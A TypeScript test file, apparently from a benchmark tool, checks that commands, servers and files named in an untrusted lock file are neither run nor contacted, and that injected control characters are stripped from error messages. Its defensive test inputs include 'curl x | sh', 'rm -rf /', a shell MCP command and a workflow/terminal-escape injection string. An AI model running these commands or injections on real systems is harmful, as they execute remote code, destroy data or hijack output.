/** A lock from a comment is anybody's: nothing of it is run or asked before somebody has read it. */
import assert from "node:assert/strict";
import { existsSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { test } from "node:test";
import { lockWorld } from "../testing/lock.ts";
import { asksFor } from "./commands.ts";
import { readCommand } from "./read-command.ts";
import type { Lock } from "./schema.ts";
import { majorOf, thisTool } from "./tool.ts";

const asks = (...args: string[]) => asksFor(readCommand(["run", ...args], "lock"), {});

test("what is run here, or asked with a key, is named with the lock's own words", () => {
  assert.deepEqual(asks("--model=synthetic", "--inferrs=latest", "--scenario=chat"), []);
  assert.deepEqual(asks("--inferrs=0.0.20260424164259", "--base=inferrs=latest"), []);
  const named = [
    ...["--build=curl x | sh", "--restart-command=rm -rf /", "--base-url=http://10.0.0.1/v1"],
    ...["--inferrs=./x", "--inferrs=sh", "--inferrs=https://x.example/a.tgz"],
    ...["--server-arg=--host=0.0.0.0", "--setting=mcp.servers.x.command=sh"],
    ...["--openclaw-version=./oc", "--turn=real"],
  ];
  for (const arg of named) {
    const [line, ...more] = asks(arg);
    assert.ok(
      line?.includes(arg.replace("--turn=real", "--turn=real --model=")),
      `${arg}: ${line}`,
    );
    assert.deepEqual(more, []);
  }
  for (const item of ["inferrs=./x", "restart-command=x", "base-url=http://x/v1", "server-arg=x"]) {
    assert.deepEqual(asks(`--base=${item}`).length, 1, item);
  }
  assert.deepEqual(asks("--turn=real", "--engine=sim"), [], "the simulator says what it was told");
});

async function lockWith(...args: string[]): Promise<Lock> {
  return {
    schema: "inferrs-bench/lock/v1",
    tool: await thisTool(),
    node: majorOf(process.versions.node),
    command: ["run", ...args],
    variants: [
      {
        ...{
          name: "head",
          engine: { kind: "path", executableSha256: "a".repeat(64), version: null },
        },
        model: { kind: "synthetic", seed: 1, sha256: "a".repeat(64) },
        ...{ device: "auto", serverArgs: [], openclaw: null },
      },
    ],
    scenarios: [],
    openclawConfigSha256: "a".repeat(64),
  };
}

test("a file that the lock names isn't even asked for its version", async () => {
  const { dir, held } = lockWorld();
  writeFileSync(join(dir, "x"), "#!/bin/sh\ntouch ran\n", { mode: 0o755 });
  const lock = await lockWith("--inferrs=./x", "--model=synthetic");
  const { error, exitCode } = await held(lock);
  assert.equal(exitCode, 2);
  assert.match(error?.message ?? "", /1 thing to run or to ask"; expected --allow-commands/);
  assert.match(
    error?.message ?? "",
    /- a file that is run \(give yours beside the lock instead: --inferrs PATH\): --inferrs=\.\/x/,
  );
  assert.ok(!existsSync(join(dir, "ran")));
});

test("a server that the lock names is not asked, and gets no key", async () => {
  const asked: unknown[] = [];
  const server = createServer((request, response) => {
    asked.push(request.headers);
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const { held } = lockWorld({ OPENAI_API_KEY: "canary-0123456789" });
  const { error } = await held(await lockWith(`--base-url=http://127.0.0.1:${port}/v1`));
  assert.match(error?.message ?? "", /a server that is sent requests, with your key/);
  assert.deepEqual(asked, []);
  server.close();
});

test("what a lock says moves no cursor and begins no line of its own", async () => {
  const { held } = lockWorld();
  const hostile = "--build=x\n::set-env name=A::b\u001b[2J\u202e\r\n- nothing to worry about";
  const { error } = await held(await lockWith(hostile));
  const text = error?.message ?? "";
  assert.equal(text.split("\n").length, 2, text);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what must not be there.
  assert.doesNotMatch(text, /[\u001b\u202e\r]/);
});

test("what is no lock is told as such", async () => {
  const { bench, write } = lockWorld();
  const cases: [string, RegExp][] = [
    ["", /expected JSON/],
    ["{", /expected JSON/],
    ["[]", /expected a lock of inferrs-bench/],
    ['{"schema":"inferrs-bench/lock/v2"}', /At schema/],
    [JSON.stringify({ ...(await lockWith()), more: 1 }), /expected a lock of inferrs-bench/],
    [" ".repeat(5e6), /expected JSON/],
  ];
  for (const [text, pattern] of cases) {
    write("x.json", text);
    const { error, exitCode } = await bench({ command: "run", locked: "x.json" });
    assert.equal(exitCode, 2);
    assert.match(error?.message ?? "", pattern);
  }
  const { error } = await bench({ command: "run", locked: "nowhere.json" });
  assert.match(error?.message ?? "", /expected a file/);
  const alone = await bench({ command: "run", "allow-commands": true, plan: true });
  assert.match(alone.error?.message ?? "", /--locked with it/);
  const unplanned = await bench({ command: "run", engine: "sim", lock: "x" });
  assert.match(unplanned.error?.message ?? "", /--plan with it/);
});
